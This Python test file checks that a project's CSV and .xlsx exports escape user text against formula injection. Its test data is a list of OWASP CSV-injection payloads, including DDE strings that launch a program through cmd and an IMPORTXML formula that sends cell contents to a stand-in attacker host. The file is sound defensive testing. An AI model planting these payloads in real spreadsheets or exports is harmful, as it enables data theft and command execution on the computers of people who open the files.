"""Every export writes people's text as text: the OWASP CSV-injection payloads come back as
the same text, never as a formula, from .xlsx and .csv alike."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core.exports import Table, cell_escape, cell_unescape, table_csv, table_xlsx

# From OWASP's "CSV Injection" page and its test payloads.
OWASP_PAYLOADS = [
    '=HYPERLINK("http://evil.example/","点击")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
]


def _table(*texts: str) -> Table:
    return Table(title="=sheet", header=["text", "number"],
                 rows=[[text, Decimal("-5.50")] for text in texts])


def test_xlsx_keeps_every_payload_as_plain_text():
    content = table_xlsx(_table(*OWASP_PAYLOADS))
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml  # no cell holds a formula
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # Exactly the text, nothing prefixed. A bare carriage return reads back as a line feed
    # where openpyxl writes with the standard library's XML, and as itself with lxml.
    assert ([c.value.replace("\r", "\n") for c in cells]
            == [p.replace("\r", "\n") for p in OWASP_PAYLOADS])
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    numbers = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "n" and c.value == -5.5 for c in numbers)  # numbers stay numbers


def test_csv_quotes_every_payload_and_reads_back_exactly():
    content = table_csv(_table(*OWASP_PAYLOADS)).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))[1:]
    assert all(text.startswith("'") for text, _number in rows)
    assert [cell_unescape(text) for text, _number in rows] == OWASP_PAYLOADS
    assert {number for _text, number in rows} == {"-5.50"}  # a number is not escaped
    assert content.startswith('"text","number"\r\n"\'=HYPERLINK(""http://evil.example/""')


@pytest.mark.parametrize("text", [
    "", "plain", "'", "'quoted'", "'=already quoted", "''=twice", "-", "中文", "a=b", " =1",
    *OWASP_PAYLOADS,
])
def test_escaping_is_undone_exactly(text):
    assert cell_unescape(cell_escape(text)) == text
    assert not cell_escape(text).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_control_characters_do_not_break_the_workbook():
    content = table_xlsx(_table("名字\x01\x0b带控制符"))
    assert load_workbook(io.BytesIO(content)).active["A2"].value == "名字带控制符"
